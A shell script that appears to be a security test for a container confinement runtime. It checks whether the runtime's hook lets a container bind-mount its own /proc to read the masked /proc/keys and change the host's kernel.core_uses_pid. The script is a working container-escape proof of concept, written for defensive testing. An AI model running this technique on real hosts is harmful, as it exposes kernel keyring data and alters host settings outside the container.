#!/bin/sh
# found-12: found-10's hole on the paths that keep the hook (`run`
# through the shim, which injects confine-hook; hooks.d; bare runc): the
# hook's own judgement of the live mounts has the same "a filesystem the
# host has not mounted is the container's own" pass. Here the bind source
# is the container's whole /proc (rootfs/proc, a plain directory of the
# image when judged): the second proc at /mnt has none of
# linux.maskedPaths (/proc/keys is read) and a writable sys/ (the host's
# kernel.core_uses_pid is changed).
# Exit 0: both happened; 1: refused.
. "$(dirname "$0")/lib.sh"
policy "p['inject']['hook']=True"
B=$W/bundle
orig=$(cat /proc/sys/kernel/core_uses_pid)
new=$((1 - orig))
bundle "$B" "
c['mounts'].append({'destination':'/mnt','type':'bind','source':'rootfs/proc','options':['rbind','rw']})
c['process']['args']=['sh','-c','cat /mnt/keys > /out/keys && echo $new > /mnt/sys/kernel/core_uses_pid; echo rc=\$? > /out/done']
"
id=rt12-$$
R=$W/runc
cleanup () {
  echo "$orig" > /proc/sys/kernel/core_uses_pid
  runc --root "$R" delete -f "$id" 2>/dev/null
}
CONFINE_POLICY=$W/policy.json "$BUILD/confine-runtime" --root "$R" run -b "$B" "$id" < /dev/null > "$W/run.out" 2>&1; rc=$?
cat "$W/run.out"
grep -o "\"component\":\"hook\".*\"mounts\":{[^}]*}" "$W/decisions.log" | sed "s/,\"rules.*\"mounts\"/ ... \"mounts\"/" || echo "(the hook logged no decision)"
grep -q '^confine: refused\|error running hook' "$W/run.out" && { echo "refused (exit $rc)"; exit 1; }
now=$(cat /proc/sys/kernel/core_uses_pid)
if [ "$now" = "$new" ] && [ -s "$W/out/keys" ]; then
  echo "ATTACK WORKED: run exit $rc; the container read the masked /proc/keys ($(wc -l < "$W/out/keys") lines) and set the host's kernel.core_uses_pid from $orig to $now"; exit 0; fi
echo "nothing changed (run exit $rc)"; exit 1
